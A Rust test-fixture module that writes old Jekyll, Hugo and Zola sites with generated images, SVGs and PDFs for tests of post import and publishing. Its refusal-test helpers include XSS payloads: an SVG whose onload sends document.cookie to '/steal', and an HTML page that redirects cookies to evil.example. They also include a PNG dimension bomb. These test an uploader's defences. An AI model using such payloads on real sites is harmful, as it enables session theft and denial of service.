//! Old sites with files in them, written into a folder for end-to-end tests of publishing and
//! importing posts that use images, diagrams and documents: a Jekyll, a Hugo and a Zola site,
//! each with a PNG, a JPEG carrying EXIF location data, an animated GIF, an SVG and a PDF,
//! referenced the ways those generators' users write them (site-root paths, page bundles,
//! paths relative to a post's old address, raw `<img>`, odd file names). Also single files for
//! refusal tests: an HTML page renamed `.png`, a dimension bomb, an SVG carrying script.
//!
//! Images are small, for debug builds, except one JPEG 1200 pixels wide, so that variants
//! (480 and 960 wide) are made.

use std::fs;
use std::path::Path;

use image::codecs::gif::{GifEncoder, Repeat};
use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::{Delay, DynamicImage, Frame, Rgb, RgbImage, Rgba, RgbaImage};
use img_parts::ImageEXIF;
use img_parts::jpeg::Jpeg;

/// One reference a fixture post makes to a file, and what the file must be served as.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FixtureFile {
    /// The post's path within the site (`_posts/2015-05-15-release-notes.md`).
    pub markdown: String,
    /// The reference exactly as the post writes it (`/images/Arch%20Diagram.PNG`).
    pub reference: String,
    /// The media type it must be served with (`image/png`).
    pub media_type: &'static str,
    /// The file's path within the site (`images/Arch Diagram.PNG`).
    pub file: String,
}

/// Bytes that [`jpeg_with_exif`] puts in its EXIF block, next to a GPS latitude: a published
/// file must not contain them.
pub const GPS_MARKER: &[u8] = b"GPS 51.5007N 0.1246W";

/// A Jekyll site: `_config.yml` with `permalink: /:year/:month/:day/:title.html`, files under
/// `images/` and `files/` at its root.
///
/// - `_posts/2015-05-15-release-notes.md`: site-root `/images/arch.png`, a file name with a
///   space and capitals (`/images/Arch%20Diagram.PNG`), a raw `<img src="/images/anim.gif">`,
///   `[slides](/files/talk.pdf)`, `![](/images/logo.svg)`, and links to pages.
/// - `_posts/2016-02-03-summer-trip.md`: `../../../images/photo.jpg`, written relative to its
///   old address `/2016/02/03/summer-trip.html`; a 1200 × 800 JPEG with EXIF.
pub fn jekyll_site(dir: &Path) -> Vec<FixtureFile> {
    write(
        dir,
        "_config.yml",
        b"title: Engineering at Example\n\
          url: \"https://old.example.com\"\n\
          permalink: /:year/:month/:day/:title.html\n\
          timezone: Europe/Berlin\n\
          markdown: kramdown\n",
    );
    write(
        dir,
        "index.md",
        b"---\nlayout: home\ntitle: Home\n---\nWelcome.\n",
    );
    write(dir, "images/arch.png", &png(400, 250));
    write(dir, "images/Arch Diagram.PNG", &png(360, 240));
    write(dir, "images/anim.gif", &gif(64, 48));
    write(dir, "images/logo.svg", &svg(120, 40, "Example"));
    write(dir, "images/photo.jpg", &jpeg_with_exif(1200, 800));
    write(dir, "files/talk.pdf", &pdf("Release 2.0: the talk"));

    let notes = "_posts/2015-05-15-release-notes.md";
    write(
        dir,
        notes,
        b"---\n\
          layout: post\n\
          title: \"Release notes: 2.0\"\n\
          date: 2015-05-15 10:00:00 +0200\n\
          categories: [releases]\n\
          author: Ann Lee\n\
          ---\n\
          Version 2.0 is out. The new architecture:\n\
          \n\
          ![Architecture](/images/arch.png)\n\
          \n\
          The same diagram, as the drawing tool exported it:\n\
          \n\
          ![Architecture, exported](/images/Arch%20Diagram.PNG \"Exported\")\n\
          \n\
          <p align=\"center\"><img src=\"/images/anim.gif\" alt=\"The new installer\" width=\"320\"></p>\n\
          \n\
          Grab the [slides](/files/talk.pdf) of the talk, or read the\n\
          [previous release notes](/2014/11/02/release-notes-1.9.html) and the\n\
          [changelog](https://github.com/example/app/blob/main/CHANGELOG.md).\n\
          \n\
          ![](/images/logo.svg)\n",
    );
    let trip = "_posts/2016-02-03-summer-trip.md";
    write(
        dir,
        trip,
        b"---\n\
          layout: post\n\
          title: \"Team trip\"\n\
          date: 2016-02-03 18:30:00 +0100\n\
          categories: [culture]\n\
          tags: [team, travel]\n\
          ---\n\
          We went to the mountains.\n\
          \n\
          ![The view from the top](../../../images/photo.jpg)\n\
          \n\
          More in the [release notes](/2015/05/15/release-notes.html#whats-new).\n",
    );
    vec![
        fixture(notes, "/images/arch.png", "image/png", "images/arch.png"),
        fixture(
            notes,
            "/images/Arch%20Diagram.PNG",
            "image/png",
            "images/Arch Diagram.PNG",
        ),
        fixture(notes, "/images/anim.gif", "image/gif", "images/anim.gif"),
        fixture(
            notes,
            "/files/talk.pdf",
            "application/pdf",
            "files/talk.pdf",
        ),
        fixture(
            notes,
            "/images/logo.svg",
            "image/svg+xml",
            "images/logo.svg",
        ),
        fixture(
            trip,
            "../../../images/photo.jpg",
            "image/jpeg",
            "images/photo.jpg",
        ),
    ]
}

/// A Hugo site: `hugo.toml`, a page bundle `content/posts/bundle-post/index.md` with its
/// `diagram.png`, `chart.svg` and `anim.gif` beside it, and `content/posts/screenshots.md`
/// using `/images/shot.jpg` and `/files/paper.pdf` from `static/`.
pub fn hugo_site(dir: &Path) -> Vec<FixtureFile> {
    write(
        dir,
        "hugo.toml",
        b"baseURL = \"https://old.example.org/\"\n\
          languageCode = \"en-us\"\n\
          title = \"Old Hugo blog\"\n\
          \n\
          [permalinks]\n\
          posts = \"/:year/:month/:slug/\"\n",
    );
    write(
        dir,
        "archetypes/default.md",
        b"+++\ntitle = '{{ replace .File.ContentBaseName \"-\" \" \" | title }}'\ndate = {{ .Date }}\ndraft = true\n+++\n",
    );
    write(
        dir,
        "content/posts/_index.md",
        b"+++\ntitle = \"Posts\"\n+++\n",
    );
    let bundle = "content/posts/bundle-post/index.md";
    write(
        dir,
        bundle,
        b"+++\n\
          title = \"A page bundle\"\n\
          date = 2020-04-05T10:00:00+02:00\n\
          categories = [\"Go\"]\n\
          tags = [\"hugo\", \"diagrams\"]\n\
          [params]\n\
          featured = true\n\
          +++\n\
          The files of this post sit beside it.\n\
          \n\
          ![How requests flow](diagram.png)\n\
          \n\
          ![Latency by month](./chart.svg \"p99\")\n\
          \n\
          <img src=\"anim.gif\" alt=\"A deploy, sped up\">\n\
          \n\
          See also [the screenshots](/posts/screenshots/).\n",
    );
    write(dir, "content/posts/bundle-post/diagram.png", &png(320, 200));
    write(
        dir,
        "content/posts/bundle-post/chart.svg",
        &svg(300, 150, "p99"),
    );
    write(dir, "content/posts/bundle-post/anim.gif", &gif(48, 32));
    let screenshots = "content/posts/screenshots.md";
    write(
        dir,
        screenshots,
        b"---\n\
          title: \"Screenshots\"\n\
          date: 2020-06-01\n\
          categories:\n\
          \x20 - Tooling\n\
          ---\n\
          The dashboard:\n\
          \n\
          ![Dashboard](/images/shot.jpg)\n\
          \n\
          The [paper](/files/paper.pdf) behind it, and [the bundle]({{< ref \"bundle-post\" >}}).\n",
    );
    write(dir, "static/images/shot.jpg", &jpeg_with_exif(640, 400));
    write(dir, "static/files/paper.pdf", &pdf("The paper"));
    vec![
        fixture(
            bundle,
            "diagram.png",
            "image/png",
            "content/posts/bundle-post/diagram.png",
        ),
        fixture(
            bundle,
            "./chart.svg",
            "image/svg+xml",
            "content/posts/bundle-post/chart.svg",
        ),
        fixture(
            bundle,
            "anim.gif",
            "image/gif",
            "content/posts/bundle-post/anim.gif",
        ),
        fixture(
            screenshots,
            "/images/shot.jpg",
            "image/jpeg",
            "static/images/shot.jpg",
        ),
        fixture(
            screenshots,
            "/files/paper.pdf",
            "application/pdf",
            "static/files/paper.pdf",
        ),
    ]
}

/// A Zola site: `config.toml` with `base_url`, `content/blog/colocated-post/index.md` with its
/// `figure.png`, `photo.jpg` and `anim.gif` beside it, and `content/blog/plain-post.md` using
/// `/img/logo.svg` and `/files/notes.pdf` from `static/`.
pub fn zola_site(dir: &Path) -> Vec<FixtureFile> {
    write(
        dir,
        "config.toml",
        b"base_url = \"https://old-zola.example.net\"\n\
          title = \"Old Zola blog\"\n\
          compile_sass = false\n\
          build_search_index = false\n\
          taxonomies = [\n\
          \x20   { name = \"categories\" },\n\
          \x20   { name = \"tags\" },\n\
          ]\n\
          \n\
          [markdown]\n\
          highlight_code = true\n",
    );
    write(
        dir,
        "content/blog/_index.md",
        b"+++\ntitle = \"Blog\"\nsort_by = \"date\"\n+++\n",
    );
    let colocated = "content/blog/colocated-post/index.md";
    write(
        dir,
        colocated,
        b"+++\n\
          title = \"Colocated assets\"\n\
          date = 2021-03-04\n\
          description = \"Files beside the post.\"\n\
          [taxonomies]\n\
          categories = [\"Tooling\"]\n\
          tags = [\"zola\"]\n\
          +++\n\
          A figure:\n\
          \n\
          ![Figure 1](figure.png)\n\
          \n\
          A photo of the whiteboard, from a phone:\n\
          \n\
          ![Whiteboard](photo.jpg)\n\
          \n\
          <img src=\"anim.gif\" alt=\"Build, animated\" />\n\
          \n\
          Previously: [plain post](@/blog/plain-post.md).\n",
    );
    write(
        dir,
        "content/blog/colocated-post/figure.png",
        &png(300, 180),
    );
    write(
        dir,
        "content/blog/colocated-post/photo.jpg",
        &jpeg_with_exif(400, 300),
    );
    write(dir, "content/blog/colocated-post/anim.gif", &gif(40, 40));
    let plain = "content/blog/plain-post.md";
    write(
        dir,
        plain,
        b"+++\n\
          title = \"A plain post\"\n\
          date = 2021-01-10\n\
          [taxonomies]\n\
          categories = [\"Notes\"]\n\
          +++\n\
          ![Logo](/img/logo.svg)\n\
          \n\
          The [meeting notes](/files/notes.pdf?download=1).\n",
    );
    write(dir, "static/img/logo.svg", &svg(64, 64, "Z"));
    write(dir, "static/files/notes.pdf", &pdf("Meeting notes"));
    vec![
        fixture(
            colocated,
            "figure.png",
            "image/png",
            "content/blog/colocated-post/figure.png",
        ),
        fixture(
            colocated,
            "photo.jpg",
            "image/jpeg",
            "content/blog/colocated-post/photo.jpg",
        ),
        fixture(
            colocated,
            "anim.gif",
            "image/gif",
            "content/blog/colocated-post/anim.gif",
        ),
        fixture(
            plain,
            "/img/logo.svg",
            "image/svg+xml",
            "static/img/logo.svg",
        ),
        fixture(
            plain,
            "/files/notes.pdf?download=1",
            "application/pdf",
            "static/files/notes.pdf",
        ),
    ]
}

fn fixture(markdown: &str, reference: &str, media_type: &'static str, file: &str) -> FixtureFile {
    FixtureFile {
        markdown: markdown.to_owned(),
        reference: reference.to_owned(),
        media_type,
        file: file.to_owned(),
    }
}

fn write(dir: &Path, path: &str, bytes: &[u8]) {
    let path = dir.join(path);
    fs::create_dir_all(path.parent().expect("a file in a folder")).expect("creating a folder");
    fs::write(&path, bytes).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
}

/// Gradients and a little noise, as in a photo or a screenshot of one; the same size gives the
/// same pixels, different sizes different ones.
fn pixels(width: u32, height: u32) -> RgbImage {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64 ^ u64::from(width) << 32 ^ u64::from(height);
    RgbImage::from_fn(width, height, |x, y| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let noise = (state % 16) as u32;
        let (fx, fy) = (x * 200 / width.max(1), y * 200 / height.max(1));
        Rgb([
            (fx + noise) as u8,
            (fy + noise) as u8,
            ((fx + fy) / 2 + noise + 20) as u8,
        ])
    })
}

/// A PNG of `width` × `height` pixels.
pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(pixels(width, height))
        .write_with_encoder(PngEncoder::new(&mut out))
        .expect("encoding a PNG");
    out
}

/// A JPEG of `width` × `height` pixels whose EXIF block holds a GPS latitude and
/// [`GPS_MARKER`], as a phone's photo does.
pub fn jpeg_with_exif(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(pixels(width, height))
        .write_with_encoder(JpegEncoder::new_with_quality(&mut out, 90))
        .expect("encoding a JPEG");
    let mut jpeg = Jpeg::from_bytes(out.into()).expect("a JPEG just encoded");
    jpeg.set_exif(Some(gps_exif().into()));
    jpeg.encoder().bytes().to_vec()
}

/// A big-endian EXIF block: IFD0 with an orientation (normal) and a pointer to a GPS IFD that
/// holds a latitude reference, then [`GPS_MARKER`].
fn gps_exif() -> Vec<u8> {
    let mut e = b"MM\x00\x2a\x00\x00\x00\x08".to_vec();
    e.extend([0, 2]);
    // Orientation: 1, as shot.
    e.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 1, 0, 0]);
    // GPSInfo: the GPS IFD is at offset 38.
    e.extend([0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 38]);
    e.extend([0, 0, 0, 0]);
    // GPSLatitudeRef: "N".
    e.extend([0, 1, 0, 1, 0, 2, 0, 0, 0, 2]);
    e.extend(b"N\0\0\0");
    e.extend([0, 0, 0, 0]);
    e.extend(GPS_MARKER);
    e
}

/// An animated GIF of `width` × `height` pixels, two frames, looping.
pub fn gif(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut encoder = GifEncoder::new_with_speed(&mut out, 30);
        encoder
            .set_repeat(Repeat::Infinite)
            .expect("setting a GIF to loop");
        let frames = [Rgba([200, 40, 40, 255]), Rgba([40, 40, 200, 255])].map(|colour| {
            let image = RgbaImage::from_fn(width, height, |x, _| {
                if x < width / 2 {
                    colour
                } else {
                    Rgba([240, 240, 240, 255])
                }
            });
            Frame::from_parts(image, 0, 0, Delay::from_numer_denom_ms(400, 1))
        });
        encoder.encode_frames(frames).expect("encoding a GIF");
    }
    out
}

/// A plain SVG drawing with a label.
pub fn svg(width: u32, height: u32, label: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{width}\" height=\"{height}\" viewBox=\"0 0 {width} {height}\">\n\
         \x20 <rect width=\"100%\" height=\"100%\" fill=\"#1d4ed8\"/>\n\
         \x20 <text x=\"8\" y=\"{}\" font-family=\"sans-serif\" fill=\"#fff\">{label}</text>\n\
         </svg>\n",
        height / 2
    )
    .into_bytes()
}

/// An SVG carrying script three ways: a `<script>` element, an `onload` attribute, and a
/// `<foreignObject>` holding HTML with its own script.
pub fn svg_with_script() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
      <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"100\" onload=\"fetch('/steal?c='+document.cookie)\">\n\
      \x20 <script>alert(document.domain)</script>\n\
      \x20 <rect width=\"200\" height=\"100\" fill=\"red\"/>\n\
      \x20 <foreignObject width=\"200\" height=\"100\">\n\
      \x20   <body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"javascript:alert(1)\"></iframe><img src=\"x\" onerror=\"alert(2)\"/></body>\n\
      \x20 </foreignObject>\n\
      </svg>\n"
        .to_vec()
}

/// An HTML page with script, as if renamed `diagram.png`.
pub fn html_renamed() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>Not an image</title></head>\n\
      <body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>\n"
        .to_vec()
}

/// A valid PNG signature and header declaring 50,000 × 50,000 pixels, and no pixels: tens of
/// bytes that would take gigabytes to decode.
pub fn dimension_bomb_png() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = b"IHDR".to_vec();
    ihdr.extend(50_000u32.to_be_bytes());
    ihdr.extend(50_000u32.to_be_bytes());
    // 8 bits per channel, RGB, deflate, no filter, no interlace.
    ihdr.extend([8, 2, 0, 0, 0]);
    png.extend(13u32.to_be_bytes());
    png.extend(&ihdr);
    png.extend(crc32(&ihdr).to_be_bytes());
    png.extend(0u32.to_be_bytes());
    png.extend(b"IEND");
    png.extend(crc32(b"IEND").to_be_bytes());
    png
}

/// PNG's CRC-32 (ISO 3309), bit by bit.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A minimal valid one-page PDF showing `title`, with a correct cross-reference table.
pub fn pdf(title: &str) -> Vec<u8> {
    let stream = format!(
        "BT /F1 18 Tf 72 720 Td ({}) Tj ET",
        title.replace(['(', ')', '\\'], "")
    );
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{stream}\nendstream", stream.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

#[cfg(test)]
mod tests {
    use blog_shared::store::blobs::{dimensions, sniff};

    use super::*;

    #[test]
    fn every_fixture_file_exists_and_is_what_it_is_declared_to_be() {
        for (name, make) in [
            ("jekyll", jekyll_site as fn(&Path) -> Vec<FixtureFile>),
            ("hugo", hugo_site),
            ("zola", zola_site),
        ] {
            let dir = tempfile::tempdir().unwrap();
            let files = make(dir.path());
            let mut types: Vec<&str> = files.iter().map(|f| f.media_type).collect();
            types.sort_unstable();
            types.dedup();
            assert_eq!(
                types,
                [
                    "application/pdf",
                    "image/gif",
                    "image/jpeg",
                    "image/png",
                    "image/svg+xml"
                ],
                "{name}"
            );
            for file in &files {
                let markdown = fs::read_to_string(dir.path().join(&file.markdown)).unwrap();
                assert!(
                    markdown.contains(&file.reference),
                    "{name}: {} does not write {}",
                    file.markdown,
                    file.reference
                );
                let bytes = fs::read(dir.path().join(&file.file)).unwrap();
                assert_eq!(sniff(&bytes), Ok(file.media_type), "{name}: {}", file.file);
                dimensions(&file.file, file.media_type, &bytes).unwrap();
                if file.media_type == "image/jpeg" {
                    let jpeg = Jpeg::from_bytes(bytes.clone().into()).unwrap();
                    assert!(jpeg.exif().is_some(), "{name}: {}", file.file);
                    assert!(bytes.windows(GPS_MARKER.len()).any(|w| w == GPS_MARKER));
                }
            }
        }
    }

    #[test]
    fn one_jpeg_is_wide_enough_for_variants() {
        let dir = tempfile::tempdir().unwrap();
        let widest = jekyll_site(dir.path())
            .iter()
            .filter(|f| f.media_type == "image/jpeg")
            .map(|f| {
                let bytes = fs::read(dir.path().join(&f.file)).unwrap();
                dimensions(&f.file, f.media_type, &bytes)
                    .unwrap()
                    .unwrap()
                    .0
            })
            .max();
        assert_eq!(widest, Some(1200));
    }

    #[test]
    fn refusal_files_are_what_they_claim() {
        assert_eq!(sniff(&svg_with_script()), Ok("image/svg+xml"));
        assert_eq!(sniff(&html_renamed()), Err("text/html".to_owned()));
        let bomb = dimension_bomb_png();
        assert!(bomb.len() < 100);
        assert_eq!(sniff(&bomb), Ok("image/png"));
        let refused = dimensions("bomb.png", "image/png", &bomb).unwrap_err();
        assert!(refused.to_string().contains("50000"), "{refused}");
        // Its chunks are well formed: a reader finds the header and its size.
        let parsed = img_parts::png::Png::from_bytes(bomb.into()).unwrap();
        assert_eq!(parsed.dimensions(), Some((50_000, 50_000)));
        let gif = gif(10, 10);
        assert!(image::codecs::gif::GifDecoder::new(std::io::Cursor::new(&gif[..])).is_ok());
        assert!(pdf("x").starts_with(b"%PDF-1.4") && pdf("x").ends_with(b"%%EOF\n"));
    }
}
